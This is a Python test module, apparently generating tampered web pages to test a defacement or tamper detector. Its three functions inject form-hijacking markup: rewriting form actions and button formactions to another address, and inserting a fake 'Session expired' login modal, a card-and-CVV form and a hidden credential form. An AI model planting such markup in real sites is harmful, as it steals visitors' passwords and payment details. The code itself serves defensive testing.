"""Forms that send what visitors type to somebody else."""

# ruff: noqa: E501 — markup and scripts read best unbroken

from __future__ import annotations

from random import Random

from tests.tamper.corpus.attacks.kit import address, attack, body_place, insert
from tests.tamper.corpus.markup import Document, Edit, apply, set_attribute
from tests.tamper.corpus.site import Site


@attack("form_action", "form_hijack", needs=("login",))
def form_action(site: Site, document: Document, rng: Random) -> str | None:
    forms = document.find("form")
    if not forms:
        return None
    form = rng.choice(forms)
    tag = document.source[form.start : form.inner]
    changed = set_attribute(
        tag, "action", address(rng, site, rng.choice(["login.php", "save", "post.php", "collect"]))
    )
    return apply(document.source, [Edit(form.start, form.inner, changed)])


@attack("form_extra", "form_hijack")
def form_extra(site: Site, document: Document, rng: Random) -> str | None:
    target = address(rng, site, rng.choice(["auth", "verify.php", "signin", "login"]))
    html = rng.choice([
        f'<div class="modal" style="position:fixed;top:20%;left:35%;background:#fff;z-index:9999"><form action="{target}" method="post"><h3>Session expired</h3><input name="user"><input type="password" name="pass"><button>Log in</button></form></div>',
        f'<form method="POST" action="{target}"><input type="text" name="card" placeholder="Card number"><input type="text" name="cvv"><input type="submit" value="Verify"></form>',
        f'<form action="{target}" method="post" style="display:none" id="f1"><input name="u"><input name="p" type="password"></form>',
    ])  # fmt: skip
    return insert(document, body_place(document, rng), html)


@attack("form_button", "form_hijack", needs=("login",))
def form_button(site: Site, document: Document, rng: Random) -> str | None:
    """formaction on the button wins over the form's own action."""
    buttons = [
        e for e in document.find("button", "input")
        if e.name == "button" or e.attributes.get("type", "").lower() in {"submit", "image"}
    ]  # fmt: skip
    if not buttons:
        return None
    button = rng.choice(buttons)
    tag = document.source[button.start : button.inner]
    changed = set_attribute(tag, "formaction", address(rng, site, "gate.php"))
    return apply(document.source, [Edit(button.start, button.inner, changed)])
